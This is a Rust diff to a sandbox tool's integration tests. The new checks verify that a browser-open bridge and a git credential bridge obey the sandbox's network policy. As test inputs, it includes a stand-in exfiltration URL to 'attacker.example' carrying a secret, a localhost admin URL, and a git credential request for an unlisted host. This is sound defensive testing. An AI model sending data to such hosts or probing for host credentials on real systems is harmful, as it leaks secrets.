@@ -9,8 +9,15 @@ use crate::harness::{World, airlock};
 
 /// `airlock run --network none -- ARGV` in the world's project, with `stdin`.
 fn run_in_sandbox(w: &World, argv: &[&str], stdin: &[u8]) -> Output {
+    run_in_sandbox_with(w, &["--network", "none"], argv, stdin)
+}
+
+/// The same with other `airlock run` options.
+fn run_in_sandbox_with(w: &World, options: &[&str], argv: &[&str], stdin: &[u8]) -> Output {
     let mut cmd = Command::new(airlock());
-    cmd.args(["run", "--network", "none", "--"])
+    cmd.arg("run")
+        .args(options)
+        .arg("--")
         .args(argv)
         .env_clear()
         .env("HOME", &w.home)
@@ -54,7 +61,8 @@ fn xdg_open_inside_reaches_the_host_opener() {
         return;
     }
     w.start();
-    let out = run_in_sandbox(&w, &["xdg-open", "https://example.com/x"], b"");
+    let proxy = ["--network", "proxy", "--allow-host", "example.com"];
+    let out = run_in_sandbox_with(&w, &proxy, &["xdg-open", "https://example.com/x"], b"");
     assert!(out.status.success(), "{}", text(&out.stderr));
     assert_eq!(
         w.calls(),
@@ -62,9 +70,37 @@ fn xdg_open_inside_reaches_the_host_opener() {
         "{}",
         text(&out.stderr)
     );
+    // Only what this sandbox's network policy reaches: no exfiltration through the host browser,
+    // no host services, nothing at all from --network none.
+    for (options, url, says) in [
+        (
+            &proxy[..],
+            "https://attacker.example/?d=secret",
+            "not allowed by this sandbox's network policy",
+        ),
+        (
+            &proxy[..],
+            "http://127.0.0.1:8080/admin",
+            "this host or a private address",
+        ),
+        (
+            &["--network", "none"][..],
+            "https://example.com/y",
+            "no network",
+        ),
+    ] {
+        let out = run_in_sandbox_with(&w, options, &["xdg-open", url], b"");
+        assert!(
+            text(&out.stderr).contains(says),
+            "{url}: {}",
+            text(&out.stderr)
+        );
+    }
+    assert_eq!(w.calls().len(), 1, "nothing else was opened");
     // $BROWSER names the same shim, for tools that honour it.
-    let out = run_in_sandbox(
+    let out = run_in_sandbox_with(
         &w,
+        &proxy,
         &["sh", "-c", "\"$BROWSER\" https://example.com/browser"],
         b"",
     );
@@ -133,9 +169,13 @@ fn git_credential_fill_inside_returns_the_host_helpers_answer() {
         );
         return;
     }
+    // The project names no remote here: the config adds the host.
+    w.write_config("[bridge]\ncredential_hosts = [\"forge.example\"]\n");
     w.start();
-    let out = run_in_sandbox(
+    let proxy = ["--network", "proxy", "--allow-host", "forge.example"];
+    let out = run_in_sandbox_with(
         &w,
+        &proxy,
         &["git", "credential", "fill"],
         b"protocol=https\nhost=forge.example\n\n",
     );
@@ -150,6 +190,23 @@ fn git_credential_fill_inside_returns_the_host_helpers_answer() {
         ["git", "credential", "fill"],
         "the host's git ran the fill"
     );
+    // Another host: the host's token is not handed out, and git never ran for it.
+    let out = run_in_sandbox_with(
+        &w,
+        &["--network", "proxy", "--allow-host", "other.example"],
+        &[
+            "sh",
+            "-c",
+            "printf 'protocol=https\\nhost=other.example\\n\\n' | git -c credential.interactive=never credential fill; true",
+        ],
+        b"",
+    );
+    assert!(
+        !text(&out.stdout).contains("s3cret"),
+        "{}",
+        text(&out.stdout)
+    );
+    assert_eq!(w.calls().len(), 1, "{:?}", w.calls());
     // The registration is a sandbox-local system config, pointing at the shim by absolute path.
     let out = run_in_sandbox(
         &w,
